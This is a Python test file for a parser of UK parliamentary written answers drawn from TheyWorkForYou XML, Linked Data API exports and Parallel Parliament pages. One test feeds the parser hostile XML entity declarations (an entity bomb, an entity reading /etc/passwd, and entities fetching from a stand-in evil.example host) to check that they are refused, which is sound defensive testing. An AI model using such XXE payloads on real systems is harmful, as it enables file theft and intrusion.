"""The older sources: TheyWorkForYou's XML, the Linked Data API's JSON and CSV, Parallel Parliament's pages."""

from __future__ import annotations

import csv
import gzip
import json
import re
from dataclasses import replace
from datetime import date
from itertools import pairwise
from pathlib import Path

import pytest

from index.readers import addressee, read
from index.records import Fault, House, Member, Sibling, WrittenAnswer

NATIVE = Path(__file__).parents[2] / "data" / "native"


def told(source: Path) -> tuple[list[WrittenAnswer], list[Fault]]:
    """Return the records and the faults of a source."""
    found = list(read(source))
    records = [one for one in found if isinstance(one, WrittenAnswer)]
    return records, [one for one in found if isinstance(one, Fault)]


def put(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


# --- TheyWorkForYou -----------------------------------------------------------------------------


def test_each_question_of_an_old_commons_file_is_a_record() -> None:
    path = NATIVE / "answers2009-10-27c.xml"
    records, faults = told(path)
    asked = re.findall(r'<ques id="([^"]+)"', path.read_text("latin-1"))
    without_version = [gid.replace("2009-10-27c.", "2009-10-27.") for gid in asked]
    assert not faults and [record.origin for record in records] == [f"theyworkforyou:{gid}" for gid in without_version]
    first = records[0]
    assert first.id == "commons/2008-09/295019"
    assert first.keys[1] == "uk.org.publicwhip/wrans/2009-10-27.295019.q0"
    assert (first.house, first.house_inferred, first.tabled) == (House.COMMONS, False, None)
    assert (first.answered, first.holding_date, first.holding) == (date(2009, 10, 27), date(2009, 10, 22), False)
    assert (first.department, first.heading) == ("Work and Pensions", "Child Poverty Bill")
    assert (first.asked_by, first.answered_by) == (Member(name="Steve Webb"), Member(name="Helen Goodman"))
    assert first.addressed_to == "Secretary of State for Work and Pensions"
    assert first.answer.startswith("Estimates of the monetary value in 2009-10 prices")
    assert "holding answer" not in first.answer and "£158 per week" in first.answer
    assert first.url and first.url.startswith("http://www.publications.parliament.uk/pa/cm200809/")
    assert any("| --- |" in record.answer for record in records)
    assert {record.department for record in records} >= {"Work and Pensions", "Environment Food and Rural Affairs"}


def test_questions_answered_together_share_the_answer_and_know_each_other() -> None:
    records, _ = told(NATIVE / "answers2009-10-27c.xml")
    pairs = [(one, two) for one, two in pairwise(records) if one.answer == two.answer and one.heading == two.heading]
    assert len(pairs) == 1
    one, two = pairs[0]
    assert one.uin and two.uin and one.uin != two.uin
    assert Sibling(uin=two.uin) in one.grouped and Sibling(uin=one.uin) in two.grouped


def test_a_question_in_several_parts_is_known_by_each_of_its_uins() -> None:
    records, _ = told(NATIVE / "answers2009-10-27c.xml")
    record = next(record for record in records if record.uin == "293556")
    assert record.grouped == (Sibling(uin="293557"), Sibling(uin="293558"))
    assert {"commons/2008-09/293557", "uk.org.publicwhip/wrans/2009-10-27.293557.q0"} <= set(record.keys)
    assert record.question.count("(1)") == record.question.count("(3)") == 1


def test_a_replaced_file_that_holds_only_redirects_is_named_and_yields_nothing() -> None:
    reason = "no written questions in it (all of it was replaced by a later version)"
    assert told(NATIVE / "answers2009-10-26b.xml") == (
        [],
        [Fault("answers2009-10-26b.xml", reason, entry=False, note=True)],
    )


def test_the_lords_are_known_by_their_askers() -> None:
    records, faults = told(NATIVE / "lordswrans2009-10-28a.xml")
    assert not faults and {(record.house, record.house_inferred) for record in records} == {(House.LORDS, False)}
    assert all(record.uin and record.uin.startswith("HL") for record in records)
    assert {record.department for record in records} == {None}
    assert {record.addressed_to for record in records} == {"Her Majesty's Government"}
    assert sum(bool(record.grouped) for record in records) == 2


NEW = """<?xml version="1.0" encoding="utf-8"?>
<publicwhip>
 <major-heading id="uk.org.publicwhip/wrans/2024-03-01.17000.mh" nospeaker="true">HOME OFFICE</major-heading>
 <minor-heading id="uk.org.publicwhip/wrans/2024-03-01.17000.h" nospeaker="true">Police: Pay</minor-heading>
 <ques id="uk.org.publicwhip/wrans/2024-03-01.17000.q0" person_id="uk.org.publicwhip/person/1" speakername="Ann"
  url="https://questions-statements.parliament.uk/written-questions/detail/2024-03-01/17000"
  ><p qnum="17000">To ask the Secretary of State for the Home Department, what police earn.</p></ques>
 <ques id="uk.org.publicwhip/wrans/2024-03-01.17000.q1" person_id="uk.org.publicwhip/person/1" speakername="Ann"
  url="https://questions-statements.parliament.uk/written-questions/detail/2024-03-02/17009"
  ><p>To ask the Secretary of State for the Home Department, what police spend.</p></ques>
 <reply id="uk.org.publicwhip/wrans/2024-03-01.17000.r0" speakername="Bob"><p>Enough &amp; more.</p>
  <ul><li>x</li></ul></reply>
</publicwhip>"""


def test_a_new_file_carries_dates_tabled_in_its_ids_and_the_date_answered_in_its_name(tmp_path: Path) -> None:
    (one, two), faults = told(put(tmp_path / "answers2024-03-07.xml", NEW))
    assert not faults
    assert one.id == "commons/2024-03-01/17000" and two.id == "commons/2024-03-02/17009"
    assert "uk.org.publicwhip/wrans/2024-03-01.17000.q1" in two.keys
    assert (one.tabled, one.answered) == (date(2024, 3, 1), date(2024, 3, 7))
    assert one.answer == two.answer == "Enough & more.\n\n- x"
    assert one.grouped == (Sibling(uin="17009", tabled=date(2024, 3, 2)),)
    assert (one.department, one.url) == (
        "Home Office",
        "https://questions-statements.parliament.uk/written-questions/detail/2024-03-01/17000",
    )


@pytest.mark.parametrize(
    "declarations",
    [
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;',
        '<!ENTITY a PUBLIC "x" "http://evil.example/x">',
    ],
    ids=["bomb", "file", "parameter", "public"],
)
def test_entities_that_could_do_harm_are_refused(tmp_path: Path, declarations: str) -> None:
    text = NEW.replace("<publicwhip>", f"<!DOCTYPE publicwhip [{declarations}]><publicwhip>").replace("Enough", "&a;")
    records, faults = told(put(tmp_path / "answers2024-03-07.xml", text))
    assert records == [] and [(fault.reason, fault.entry) for fault in faults] == [
        ("declares entities that could do harm", False)
    ]


def test_half_an_xml_file_gives_what_could_be_read(tmp_path: Path) -> None:
    whole = (NATIVE / "answers2009-10-27c.xml").read_bytes()
    path = tmp_path / "answers2009-10-27c.xml"
    path.write_bytes(whole[: len(whole) // 2])
    records, faults = told(path)
    assert 3 <= len(records) < 11
    assert len(faults) == 1 and faults[0].reason == "broken XML" and ", line " in faults[0].place


def test_a_reply_without_a_question_is_a_fault_and_a_question_without_a_reply_is_not(tmp_path: Path) -> None:
    alone = re.sub(r"<reply.*</reply>", "", NEW, flags=re.DOTALL)
    records, faults = told(put(tmp_path / "answers2024-03-07.xml", alone))
    assert not faults and [(record.answer, record.answered) for record in records] == [("", None)] * 2
    orphan = re.sub(r"<ques.*</ques>", "", NEW, flags=re.DOTALL)
    assert [fault.reason for fault in told(put(tmp_path / "b.xml", orphan))[1]] == ["a reply without a question"]


def replied(*replies: str) -> str:
    """Return the new file with other replies."""
    return re.sub(r"<reply.*</reply>", lambda _: "".join(replies), NEW, flags=re.DOTALL)


@pytest.mark.parametrize(
    ("reply", "answer"),
    [
        ("5 were sold. <p>In 2015 <b>six</b>.</p> Nine in 2016.<table><tr><td>Red</td><td>3</td></tr></table>Four.",
         "5 were sold.\n\nIn 2015 six.\n\nNine in 2016.\n\n| Red | 3 |\n| --- | --- |\n\nFour."),
        ("Some 90 tonnes &lt; 100,<br/>and 12 tonnes.", "Some 90 tonnes < 100,\nand 12 tonnes."),
        ("Plain.", "Plain."),
        ('<p class="holdinganswer">holding <phrase class="date" code="2024-03-05">5 March</phrase></p>After it.<p>So.</p>',
         "After it.\n\nSo."),
        ('<p>See the <a href="https://a.uk">table</a></p>of <i>sales</i>.', "See the table\n\nof sales."),
        ("&lt;p&gt;Escaped.&lt;/p&gt;", "Escaped."),
    ],
)  # fmt: skip
def test_all_that_is_in_a_reply_is_its_text(tmp_path: Path, reply: str, answer: str) -> None:
    text = replied(f'<reply speakername="Bob">{reply}</reply>')
    (one, two), faults = told(put(tmp_path / "answers2024-03-07.xml", text))
    assert not faults and one.answer == two.answer == answer
    assert one.holding_date == (date(2024, 3, 5) if "holding" in reply else None)


def test_each_minister_who_replied_is_credited_with_the_words_of_that_reply(tmp_path: Path) -> None:
    text = replied(
        '<reply speakername="Bob"><p>Bob sold 12.</p></reply>',
        '<reply><p>And <a href="https://a.uk">more</a>.</p></reply>',
        '<reply speakername="Cat">I sold 30, see <a href="https://b.uk">Cat\'s list</a>.</reply>',
        '<reply speakername="Dan"><p> </p></reply>',
        '<reply speakername="Cat"><p>All abroad.</p></reply>',
        '<reply speakername="Bob"><p>None here.</p></reply>',
    )
    (one, two), faults = told(put(tmp_path / "answers2024-03-07.xml", text))
    assert not faults and one.answer == two.answer == (
        "Bob sold 12.\n\nAnd more.\n\nCat\n\nI sold 30, see Cat's list.\n\nAll abroad.\n\nBob\n\nNone here."
    )
    assert one.answered_by == Member(name="Bob")
    said = [(one.answer[speaker.start :].partition("\n")[0], speaker.member.name) for speaker in one.speakers]
    assert said == [("Cat", "Cat"), ("Bob", "Bob")]
    assert [(one.answer[link.start : link.end], link.url) for link in one.links] == [
        ("more", "https://a.uk"), ("Cat's list", "https://b.uk"),
    ]  # fmt: skip
    by = {words: one.credited_at(one.answer.index(words)).answered_by for words in ("sold 12", "30", "abroad", "None")}
    assert [member and member.name for member in by.values()] == ["Bob", "Cat", "Cat", "Bob"]


# --- Linked Data API ----------------------------------------------------------------------------


def test_linked_data_json_with_its_corrections() -> None:
    path = NATIVE / "answeredquestions.json.gz"
    records, faults = told(path)
    items = json.loads(gzip.decompress(path.read_bytes()))["result"]["items"]
    assert not faults and len(records) == len(items)
    for record, item in zip(records, items, strict=True):
        number = item["_about"].rsplit("/", 1)[1]
        assert (record.origin, record.uin) == (f"linked-data:{number}", item["uin"])
        assert f"lda:{number}" in record.keys and record.id == record.keys[0]
        assert record.tabled and record.id == f"{record.house.lower()}/{record.tabled}/{record.uin}"
        assert record.house == ("Commons" if item["houseId"]["_value"] == "1" else "Lords")
        assert record.corrected >= (item["answer"]["isMinisterialCorrection"]["_value"] == "true")
        assert bool(record.attachments) == ("attachment" in item["answer"])
        assert not (record.url or "").startswith("http://data")
        assert record.asked_by and record.asked_by.id and record.asked_by.name
    changed = [record for record in records if record.original_answer]
    assert len(changed) >= 4
    imams = next(record for record in changed if "imams" in record.answer)
    assert "100 imams" in imams.answer and "393 imams" not in imams.answer
    assert "393 imams" in (imams.original_answer or "") and "<del>393 imams" in (imams.correction or "")


def test_linked_data_is_read_as_a_page_a_list_of_items_and_a_single_one(tmp_path: Path) -> None:
    page = json.loads(gzip.decompress(next(NATIVE.glob("answeredquestions*")).read_bytes()))
    items = page["result"]["items"][:3]
    wanted = told(put(tmp_path / "page.json", json.dumps(page | {"result": {"items": items}})))
    assert len(wanted[0]) == 3 and not wanted[1]
    single = {"format": "linked-data-api", "result": {"_about": items[0]["_about"], "primaryTopic": items[0]}}
    for name, data, number in (("list", items, 3), ("single", single, 1)):
        records, faults = told(put(tmp_path / f"{name}.json", json.dumps(data)))
        assert not faults and records == [replace(one, sources=(f"{name}.json",)) for one in wanted[0][:number]]


def test_broken_quoting_is_read_by_what_stands_around_the_answer() -> None:
    path = NATIVE / "commonsansweredquestions.csv"
    lines = path.read_text().strip().split("\n")[1:]
    records, faults = told(path)
    assert not faults and len(records) == len(lines)
    broken = 0
    for record, line in zip(records, lines, strict=True):
        uri, body, *middle, seat, name, answered, uin = line[1:-1].split('","')
        broken += len(next(csv.reader([line]))) != 8
        assert f"lda:{uri.split('/')[-2]}" in record.keys
        assert (record.department, record.uin, record.question) == (body, uin, "")
        assert record.answered_by == Member(name=name, seat=seat)
        assert str(record.answered) == answered and record.id == f"commons/2014-15/{uin}"
        assert (record.house, record.house_inferred, record.url) == (House.COMMONS, True, None)
        assert middle and not record.answer.endswith('"')
    assert broken >= 7
    linked = next(record for record in records if record.links)
    assert all("target=" not in link.url and '"' not in link.url for link in linked.links)


def test_rows_beyond_help_are_told_by_line_and_well_formed_ones_may_break_lines(tmp_path: Path) -> None:
    header = (NATIVE / "commonsansweredquestions.csv").read_text().split("\n", 1)[0]
    uri = "http://data.parliament.uk/resources/{}/answer"
    rows = [
        f'"{uri.format(1)}","HM Treasury","<p>Said ""so"",\nand more</p>","m","c","Ann","2014-10-21","1"',
        f'"{uri.format(2)}","HM Treasury","<p>cut off',
        f'"{uri.format(3)}","HM Treasury","<p>x</p>","m","c","Ann","no date","3"',
        f"{uri.format(4)},HM Treasury,plain,m,c,Ann,2014-10-21,4",
        f'"{uri.format(5)}","HM Treasury"," ","m","c","Ann","2014-10-21","5"',
    ]
    records, faults = told(put(tmp_path / "x.csv", "\r\n".join([header, *rows, ""])))
    told_of = [(record.uin, record.answer, str(record.answered)) for record in records]
    assert told_of == [
        ("1", 'Said "so", and more', "2014-10-21"),
        ("3", "x", "None"),
        ("4", "plain", "2014-10-21"),
    ]
    assert faults == [
        Fault("x.csv, line 4", "the quoting cannot be made out"),
        Fault("x.csv, line 5", 'date of answer cannot be read as a date: "no date"', note=True),
        Fault("x.csv, line 7", "neither question nor answer"),
    ]


# --- Parallel Parliament ------------------------------------------------------------------------


def check_cybercrime(record: WrittenAnswer) -> None:
    """Compare with what a person reads on the page."""
    assert record.heading == "Cybercrime: International Cooperation"
    assert (record.tabled, record.answered) == (date(2023, 9, 13), date(2023, 9, 26))
    assert (record.house, record.house_inferred) == (House.LORDS, True)
    assert (record.department, record.department_inferred) == ("Home Office", False)
    assert record.answered_by == Member(name="Lord Sharpe of Epsom")
    assert record.role == "Parliamentary Under-Secretary (Home Office)"
    assert (record.uin, record.url, record.asked_by, record.truncated) == (None, None, None, False)
    assert record.question.startswith("To ask His Majesty's Government what contribution they are making")
    assert record.question.endswith("who target networks and users in the UK.")
    paragraphs = record.answer.split("\n\n")
    assert len(paragraphs) == 4
    assert paragraphs[0].startswith("The UK is a world leader in cyber security.")
    assert paragraphs[3].endswith("while protecting human rights.")
    assert not re.search("Portrait|View Source|Reticulating|Answered by|asked on", record.answer + record.question)
    assert re.fullmatch(r"lords/2023-09-13/cybercrime-international-cooperation-[0-9a-f]{8}", record.id)


def test_a_question_page() -> None:
    (record,), faults = told(NATIVE / "question-page-cybercrime.txt")
    assert not faults
    check_cybercrime(record)


def test_a_question_page_as_people_paste_it(tmp_path: Path) -> None:
    text = (NATIVE / "question-page-cybercrime.txt").read_text()
    plain = told(NATIVE / "question-page-cybercrime.txt")[0][0]
    variants = {
        "glued.txt": text.rstrip().removesuffix("Reticulating Splines").rstrip() + "Reticulating Splines",
        "windows.txt": text.replace("\n", "\r\n"),
        "indented.txt": "\n".join(f"  {line}  " for line in text.split("\n")),
        "page.html": "<html><body>" + "".join(f"<p>{line}</p>" for line in text.split("\n")) + "</body></html>",
        "no-portrait.txt": text.replace("Lord Sharpe of Epsom Portrait\n", "").replace("- View Source", ""),
    }
    for name, variant in variants.items():
        (record,), faults = told(put(tmp_path / name, variant))
        assert not faults
        check_cybercrime(record)
        assert (record.id, record.answer) == (plain.id, plain.answer)
    both, _ = told(put(tmp_path / "two.txt", f"{text}\n{text}"))
    assert [record.answer for record in both] == [plain.answer] * 2


def test_a_list_page_whose_last_question_is_cut_off_before_the_answer() -> None:
    (one, two), faults = told(NATIVE / "parallelparliament_list_roberts_dhsc_p3a.txt")
    assert [fault.reason for fault in faults] == ["the page breaks off before the answer"]
    assert (one.heading, two.heading) == ("Coronavirus: Protective Clothing", "Diabetes: Medical Equipment")
    assert (one.answered, one.tabled) == (date(2022, 3, 3), None)
    assert one.asked_by == Member(name="Lord Roberts of Llandudno", party="Liberal Democrat", seat="Life peer")
    assert one.answered_by == Member(name="Lord Kamall") and one.role is None
    assert one.department == "Department of Health and Social Care" and one.house is House.LORDS
    assert one.answer == "There is no separate guidance for the usage of facemasks worn by Government Ministers."
    assert not one.truncated and not two.truncated
    assert one.id.startswith("lords/2022-03-03/coronavirus-protective-clothing-")


def test_a_list_page_whose_last_answer_is_cut_off() -> None:
    (one, two), faults = told(NATIVE / "parallelparliament_list_ruane_dft_p3.txt")
    assert not faults and (one.truncated, two.truncated) == (False, True)
    assert (one.house, one.house_inferred) == (House.COMMONS, True)
    assert two.answered_by == Member(name="Lord Grayling") and two.answer.endswith("We continue to work closely")
    assert two.answer.count("\n\n") == 1


def test_each_question_of_a_list_page_has_an_origin_of_its_own_and_is_known_on_its_own_page() -> None:
    listed = [record for name in ("roberts_dhsc_p3a", "ruane_dft_p3")
              for record in told(NATIVE / f"parallelparliament_list_{name}.txt")[0]]  # fmt: skip
    assert len({record.origin for record in listed}) == len({record.id for record in listed}) == 4
    (page,), _ = told(NATIVE / "question-page-cybercrime.txt")
    assert page.tabled and page.answered and len(page.keys) == 2 and page.id == page.keys[0]


def test_a_list_page_names_roles_and_bodies_that_are_no_departments(tmp_path: Path) -> None:
    text = """Written Question
Catering
Wednesday 27th September 2023

Asked by: Lord Stevenson of Balmacara (Labour - Life peer)

Question

To ask the Senior Deputy Speaker what is for lunch.

Answered by Lord Gardiner of Kimble - Senior Deputy Speaker

Soup - and bread.
"""
    (record,), faults = told(put(tmp_path / "x.txt", text))
    assert not faults and record.role == "Senior Deputy Speaker" and record.answer == "Soup - and bread."
    assert (record.department, record.department_inferred) == ("Senior Deputy Speaker", True)
    assert record.house is House.LORDS


# --- addressees ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("question", "name", "body", "house"),
    [
        (
            "To ask the Secretary of State for Environment, Food and Rural Affairs, what recent",
            "Secretary of State for Environment, Food and Rural Affairs",
            "Department for Environment, Food and Rural Affairs",
            House.COMMONS,
        ),
        (
            "To ask the Secretary of State for the Home Department what",
            "Secretary of State for the Home Department",
            "Home Office",
            House.COMMONS,
        ),
        (
            "?To ask the Secretary of State for Health,with reference",
            "Secretary of State for Health",
            "Department of Health",
            House.COMMONS,
        ),
        (
            "o ask the Secretary of State for Health and Social Care, if",
            "Secretary of State for Health and Social Care",
            "Department of Health and Social Care",
            House.COMMONS,
        ),
        (
            "To ask the Secretary of State for Culture, Media & Sport, if",
            "Secretary of State for Culture, Media & Sport",
            "Department for Culture, Media and Sport",
            House.COMMONS,
        ),
        (
            "To ask the Minister of State, Department for Business, Innovation and Skills how",
            "Minister of State, Department for Business, Innovation and Skills",
            "Department for Business, Innovation and Skills",
            House.COMMONS,
        ),
        ("To ask Mr Chancellor of the Exchequer, if", None, None, None),
        ("To ask the Chancellor of the Exchequer, if", "Chancellor of the Exchequer", "HM Treasury", House.COMMONS),
        ("To ask the Solicitor General,?what", "Solicitor General", "Attorney General", House.COMMONS),
        (
            "To ask the Right hon. Member for Kenilworth and Southam, representing the Speaker’s Committee on the "
            "Electoral Commission, what",
            "Right hon. Member for Kenilworth and Southam, representing the Speaker's Committee on the Electoral "
            "Commission",
            "Speaker's Committee on the Electoral Commission",
            House.COMMONS,
        ),
        (
            "To ask the hon. Member for Battersea, representing the Church Commissioners, how",
            "hon. Member for Battersea, representing the Church Commissioners",
            "Church Commissioners",
            House.COMMONS,
        ),
        ("To ask His Majesty’s Government what", "His Majesty's Government", None, House.LORDS),
        ("To ask the Chairman of Committees whether", "Chairman of Committees", "Senior Deputy Speaker", House.LORDS),
        ("To ask the Leader of the House, if", "Leader of the House", "Leader of the House", None),
        ("To ask the Secretary of State for Healthiness, what", None, None, None),
        ("What steps are being taken?", None, None, None),
    ],
)
def test_the_addressee_is_matched_whole(question: str, name: str | None, body: str | None, house: House | None) -> None:
    assert addressee.addressee(question) == name
    assert addressee.department(name) == body
    assert addressee.house(question) == house
